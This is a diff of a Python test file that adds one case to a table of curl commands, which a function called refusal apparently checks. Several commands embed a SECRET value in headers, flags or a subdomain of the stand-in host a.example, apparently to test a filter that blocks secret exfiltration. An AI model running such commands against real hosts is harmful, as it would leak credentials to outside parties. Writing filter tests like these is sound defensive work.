@@ -174,6 +174,7 @@ def refusal(command: str) -> str:
         (f"curl --expand-header 'a: {{{{{SECRET}}}}}' https://a.example", "fills in variables"),
         (f"curl https://a.example -s+{SECRET}", "word 3"),
         (f"curl https://a.example --{SECRET} -s", "word 3"),
+        (f"curl -H a:b -s https://a.example --{SECRET}", "word 6"),
         ("curl https://a.example --no-header", "word 3"),
         ("curl https://a.example -", "word 3"),
         (f"curl https://{SECRET}.example -H", "no value"),
